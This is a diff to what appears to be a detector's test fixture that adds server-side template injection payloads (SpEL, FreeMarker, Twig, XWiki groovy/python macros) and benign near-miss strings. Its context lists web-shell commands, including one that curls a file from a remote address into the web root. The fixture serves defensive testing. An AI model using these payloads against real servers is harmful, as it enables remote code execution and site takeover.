@@ -300,7 +300,13 @@ CODE_PAYLOADS = {
                  "\\u0027+{752966+760885}+\\u0027", "'+{233*233}+'",
                  "aaa\\u0027+#request.get(\\u0027.KEY_velocity.struts2.context\\u0027)",
                  "#request\\u005b\\u0027x\\u0027\\u005d", "findValue(#parameters.x,{})",
-                 "#_memberAccess['allowStaticMethodAccess']"],
+                 "#_memberAccess['allowStaticMethodAccess']",
+                 # SpEL's type reference to any package (wy876/POC), FreeMarker's assign of a class, Twig's include(),
+                 # XWiki's script macros (websitesVulnerableToSSTI, wy876/POC)
+                 "__${T(groovy.lang.GroovyClassLoader).newInstance()}__::.x", "${T(org.x.StreamUtils).copy(a)}",
+                 "<#assign proc=Runtime> ${ proc }", "{{include(\"index\")}}", "{{ template_from_string('x') }}",
+                 "}}}{{async async=false}}{{groovy}}println(1){{/groovy}}{{/async}}",
+                 "{{python}}print(1){{/python}}"],
     "webshell": ["echo '<?php system($_GET[1]); ?>' > x.php", "x; echo PD9waHA= | base64 -d > shell.php",
                  "curl http://10.0.0.9/s.txt -o /var/www/html/s.php", "printf '<%=x%>' > /srv/a.jsp"],
 }
@@ -340,6 +346,8 @@ CODE_NEAR_MISSES = [
     "throw(err)", "printf(100*2)", "C:\\Users\\Bob{x}", "costs $\\5{net}", "<cfoutput>#name#</cfoutput>",
     "<% if x %>", "{.name.}", "the runphp option", "{dede:field name='title'/}", "#request for comments",
     "see #parameters. Then", "#session (2)", "I'd say '+{x}+'", "\\u0027hello\\u0027", "a '+' b {1+1}",
+    "T(org) = 5", "<#assign x=RuntimeName>", "{{ include }}", "{{ script }}", "{{groovy}} is a macro",
+    "{{ python_version }}{{/python}}",
 ]
 
 
